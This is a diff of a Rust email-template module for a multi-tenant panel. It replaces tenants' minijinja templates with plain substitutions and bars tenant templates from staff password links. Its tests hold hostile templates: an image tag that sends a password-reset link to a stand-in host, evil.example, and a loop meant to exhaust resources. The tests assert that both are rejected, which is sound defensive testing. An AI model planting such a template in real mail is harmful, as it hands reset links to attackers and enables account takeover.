@@ -1,11 +1,11 @@
 //! The templates of each message kind (a subject line, plain text and
-//! HTML), rendered with minijinja: the built-in ones, or the tenant's own
-//! (`/api/notifications/templates`). HTML output is auto-escaped; a
-//! template sees only the typed context it is given (no globals, no
-//! loader), and a name missing from it is an error, not an empty string.
-//! A tenant's template runs on a budget (fuel and output size), is
-//! checked against a sample of its kind before it is stored, and if it
-//! still fails on real data the built-in one is used, so mail goes out.
+//! HTML): the built-in ones, rendered with minijinja (HTML auto-escaped,
+//! a template sees only the typed context it is given: no globals, no
+//! loader, and a name missing from it is an error), or the tenant's own
+//! (`/api/notifications/templates`), which are plain substitutions
+//! ([`super::tenant_markup`]): checked against a sample of their kind
+//! before they are stored, and if they still fail on real data the
+//! built-in ones are used, so mail goes out.
 
 use minijinja::{AutoEscape, Environment, UndefinedBehavior};
 use mpanel_domain::TenantId;
@@ -14,6 +14,7 @@ use mpanel_store::Tx;
 use mpanel_store::email_templates::EmailTemplateRecord;
 use serde::Serialize;
 
+use super::tenant_markup::{self, Part};
 use crate::ServiceError;
 
 /// A message's rendered parts.
@@ -34,11 +35,6 @@ pub struct Sources {
 
 /// The longest template a tenant may store (each of the three).
 pub const MAX_TEMPLATE_LEN: usize = 32 * 1024;
-/// The most a tenant's template may write (each part).
-const MAX_OUTPUT_LEN: usize = 256 * 1024;
-/// The instructions a tenant's template may run (each part): far more
-/// than any message needs, far less than a loop meant to stall a worker.
-const FUEL: u64 = 100_000;
 
 /// The built-in templates of `kind`.
 pub fn builtin(kind: EmailKind) -> Sources {
@@ -99,7 +95,7 @@ pub fn variables(kind: EmailKind) -> Result<Vec<String>, ServiceError> {
     })
 }
 
-fn environment(budget: bool) -> Environment<'static> {
+fn environment() -> Environment<'static> {
     let mut env = Environment::empty();
     env.set_undefined_behavior(UndefinedBehavior::Strict);
     env.set_auto_escape_callback(|name| {
@@ -110,130 +106,104 @@ fn environment(budget: bool) -> Environment<'static> {
         }
     });
     env.set_keep_trailing_newline(true);
-    if budget {
-        env.set_fuel(Some(FUEL));
-    }
     env
 }
 
-/// Why a set of templates did not render: which part, and minijinja's
-/// words.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct TemplateError {
-    /// `subject`, `text` or `html`.
-    pub part: &'static str,
-    pub message: String,
+/// One line, whatever the context holds.
+fn one_line(subject: &str) -> String {
+    subject
+        .split(['\r', '\n'])
+        .map(str::trim)
+        .filter(|l| !l.is_empty())
+        .collect::<Vec<_>>()
+        .join(" ")
 }
 
-const PARTS: [(&str, &str); 3] = [
-    ("subject", "subject.txt"),
-    ("text", "body.txt"),
-    ("html", "body.html"),
-];
-
-/// Renders `sources` with `context`; `budget` limits what they may run
-/// and write (a tenant's templates).
-fn render_sources<C: Serialize>(
-    sources: &Sources,
-    context: &C,
-    budget: bool,
-) -> Result<Rendered, TemplateError> {
-    let mut env = environment(budget);
+/// Renders the built-in `sources` with `context` (minijinja's error on
+/// failure).
+fn render_minijinja<C: Serialize>(sources: &Sources, context: &C) -> Result<Rendered, String> {
+    let mut env = environment();
+    let names = ["subject.txt", "body.txt", "body.html"];
     let texts = [&sources.subject, &sources.text, &sources.html];
-    for ((part, name), source) in PARTS.iter().zip(texts) {
+    for (name, source) in names.iter().zip(texts) {
         env.add_template_owned(*name, source.clone())
-            .map_err(|e| TemplateError {
-                part,
-                message: e.to_string(),
-            })?;
+            .map_err(|e| format!("{name}: {e}"))?;
     }
     let value = minijinja::Value::from_serialize(context);
-    let mut out = Vec::with_capacity(3);
-    for (part, name) in PARTS {
-        let mut sink = Capped::default();
+    let one = |name: &str| {
         env.get_template(name)
-            .and_then(|t| t.render_captured_to(&value, &mut sink).map(drop))
-            .map_err(|e| TemplateError {
-                part,
-                message: if sink.over {
-                    format!("writes more than {MAX_OUTPUT_LEN} bytes")
-                } else {
-                    e.to_string()
-                },
-            })?;
-        out.push(String::from_utf8(sink.bytes).map_err(|e| TemplateError {
-            part,
-            message: e.to_string(),
-        })?);
-    }
-    let [subject, text, html]: [String; 3] = out.try_into().map_err(|_| TemplateError {
-        part: "subject",
-        message: "three parts".into(),
-    })?;
+            .and_then(|t| t.render(&value))
+            .map_err(|e| format!("{name}: {e}"))
+    };
     Ok(Rendered {
-        // One line, whatever the context holds.
-        subject: subject
-            .split(['\r', '\n'])
-            .map(str::trim)
-            .filter(|l| !l.is_empty())
-            .collect::<Vec<_>>()
-            .join(" "),
-        text,
-        html,
+        subject: one_line(&one(names[0])?),
+        text: one(names[1])?,
+        html: one(names[2])?,
     })
 }
 
-/// A writer that refuses to hold more than [`MAX_OUTPUT_LEN`] bytes.
-#[derive(Default)]
-struct Capped {
-    bytes: Vec<u8>,
-    over: bool,
-}
-
-impl std::io::Write for Capped {
-    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
-        if self.bytes.len() + buf.len() > MAX_OUTPUT_LEN {
-            self.over = true;
-            return Err(std::io::Error::other("output too large"));
-        }
-        self.bytes.extend_from_slice(buf);
-        Ok(buf.len())
-    }
-
-    fn flush(&mut self) -> std::io::Result<()> {
-        Ok(())
-    }
+/// Renders a tenant's `sources` of `kind` with `context`: (the part's
+/// field, why) on failure.
+fn render_own<C: Serialize>(
+    kind: EmailKind,
+    sources: &Sources,
+    context: &C,
+) -> Result<Rendered, (&'static str, String)> {
+    let values = match serde_json::to_value(context) {
+        Ok(serde_json::Value::Object(map)) => map,
+        _ => return Err(("subject", "the message's values are not a map".into())),
+    };
+    let link = kind.carries_link();
+    let one = |source: &str, part: Part| {
+        tenant_markup::render(source, part, &values, link).map_err(|e| (part.field(), e))
+    };
+    Ok(Rendered {
+        subject: one_line(&one(&sources.subject, Part::Subject)?),
+        text: one(&sources.text, Part::Text)?,
+        html: one(&sources.html, Part::Html)?,
+    })
 }
 
 /// Renders `kind`'s built-in templates with `context`.
 fn render_builtin<C: Serialize>(kind: EmailKind, context: &C) -> Result<Rendered, ServiceError> {
-    render_sources(&builtin(kind), context, false).map_err(|e| {
-        ServiceError::internal_msg(format!(
-            "rendering the built-in {} {}: {}",
-            kind.as_str(),
-            e.part,
-            e.message
-        ))
+    render_minijinja(&builtin(kind), context).map_err(|e| {
+        ServiceError::internal_msg(format!("rendering the built-in {}: {e}", kind.as_str()))
     })
 }
 
+/// Whose templates a message is written with.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Templates {
+    /// The tenant's own when it has them.
+    Tenant,
+    /// The built-in ones only (a link to a staff account: no tenant
+    /// admin's template stands between another staff member and their
+    /// password).
+    BuiltIn,
+}
+
 /// Renders `kind` for `tenant` with `context`, in the transaction that
-/// writes the message: the tenant's own templates when it has them (the
-/// built-in ones if those fail on this context).
+/// writes the message: the tenant's own templates when it has them and
+/// `which` allows them (the built-in ones if those fail on this context).
 pub async fn render_in<C: Serialize>(
     tx: &mut Tx,
     tenant: TenantId,
     kind: EmailKind,
     context: &C,
+    which: Templates,
 ) -> Result<Rendered, ServiceError> {
-    let Some(own) = tx.email_template(tenant, kind).await? else {
+    let own = match which {
+        Templates::Tenant => tx.email_template(tenant, kind).await?,
+        Templates::BuiltIn => None,
+    };
+    let Some(own) = own else {
         return render_builtin(kind, context);
     };
-    match render_sources(&own_sources(&own), context, true) {
+    match render_own(kind, &own_sources(&own), context) {
         Ok(rendered) => Ok(rendered),
-        Err(e) => {
-            tracing::warn!(tenant = %tenant, kind = kind.as_str(), part = e.part,
-                error = %e.message, "the tenant's template failed: the built-in one is used");
+        Err((part, why)) => {
+            tracing::warn!(tenant = %tenant, kind = kind.as_str(), part, error = %why,
+                "the tenant's template failed: the built-in one is used");
             render_builtin(kind, context)
         }
     }
@@ -248,16 +218,18 @@ fn own_sources(t: &EmailTemplateRecord) -> Sources {
 }
 
 /// Checks a tenant's templates of `kind`: each within
-/// [`MAX_TEMPLATE_LEN`], and rendering the kind's sample within the
-/// budget. Answers the sample as rendered (a preview).
+/// [`MAX_TEMPLATE_LEN`], and rendering the kind's sample. Answers the
+/// sample as rendered (a preview).
 pub fn check(kind: EmailKind, sources: &Sources) -> Result<Rendered, ServiceError> {
-    for ((part, _), source) in PARTS
-        .iter()
-        .zip([&sources.subject, &sources.text, &sources.html])
-    {
+    let parts = [
+        ("subject", &sources.subject),
+        ("text", &sources.text),
+        ("html", &sources.html),
+    ];
+    for (field, source) in parts {
         if source.len() > MAX_TEMPLATE_LEN {
             return Err(ServiceError::invalid(
-                *part,
+                field,
                 format!("must be at most {MAX_TEMPLATE_LEN} bytes"),
             ));
         }
@@ -265,8 +237,8 @@ pub fn check(kind: EmailKind, sources: &Sources) -> Result<Rendered, ServiceErro
     if sources.subject.trim().is_empty() {
         return Err(ServiceError::invalid("subject", "must not be empty"));
     }
-    render_sources(sources, &sample(kind)?, true)
-        .map_err(|e| ServiceError::invalid(e.part, format!("does not render: {}", e.message)))
+    render_own(kind, sources, &sample(kind)?)
+        .map_err(|(field, why)| ServiceError::invalid(field, why))
 }
 
 #[cfg(test)]
@@ -299,7 +271,8 @@ mod tests {
         assert!(render_builtin(EmailKind::InvoiceIssued, &Partial { number: "X" }).is_err());
         let own = Sources {
             subject: "Hi {{ password }}".into(),
-            ..builtin(EmailKind::InvoiceIssued)
+            text: "{{ number }}".into(),
+            html: "{{ number }}".into(),
         };
         let err = check(EmailKind::InvoiceIssued, &own).unwrap_err();
         assert!(
@@ -311,27 +284,47 @@ mod tests {
     #[test]
     fn every_built_in_template_renders_its_sample() {
         for kind in EmailKind::ALL {
-            check(kind, &builtin(kind)).unwrap();
+            render_builtin(kind, &sample(kind).unwrap()).unwrap();
         }
     }
 
     #[test]
-    fn a_tenants_template_runs_on_a_budget() {
+    fn a_tenants_template_cannot_compute() {
         let endless = Sources {
-            text: "{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}"
-                .into(),
-            ..builtin(EmailKind::Invitation)
+            subject: "Hello".into(),
+            text: "{% for c in 'x' * 30000 %}{% set b = 'x' * 100000000 %}{% endfor %}".into(),
+            html: "<a href=\"{{ link }}\">go</a>".into(),
         };
         let err = check(EmailKind::Invitation, &endless).unwrap_err();
         assert!(
             matches!(&err, ServiceError::Invalid { field, .. } if field == "text"),
             "{err:?}"
         );
-        let huge = Sources {
-            html: "{{ 'x' * 10000000 }}".into(),
-            ..builtin(EmailKind::Invitation)
+    }
+
+    #[test]
+    fn a_link_kind_must_show_its_link_on_the_portal() {
+        let sources = |html: &str| Sources {
+            subject: "Welcome {{ name }}".into(),
+            text: "Start here:\n{{ link }}\n".into(),
+            html: html.into(),
         };
-        let err = check(EmailKind::Invitation, &huge).unwrap_err();
-        assert!(format!("{err:?}").contains("writes more than"), "{err:?}");
+        assert!(
+            check(
+                EmailKind::Invitation,
+                &sources("<a href=\"{{ link }}\">go</a>")
+            )
+            .is_ok()
+        );
+        let err = check(
+            EmailKind::PasswordReset,
+            &sources("<img src=\"https://evil.example/{{ link }}\">"),
+        )
+        .unwrap_err();
+        assert!(
+            matches!(&err, ServiceError::Invalid { field, .. } if field == "html"),
+            "{err:?}"
+        );
+        assert!(check(EmailKind::Invitation, &sources("<p>no link</p>")).is_err());
     }
 }
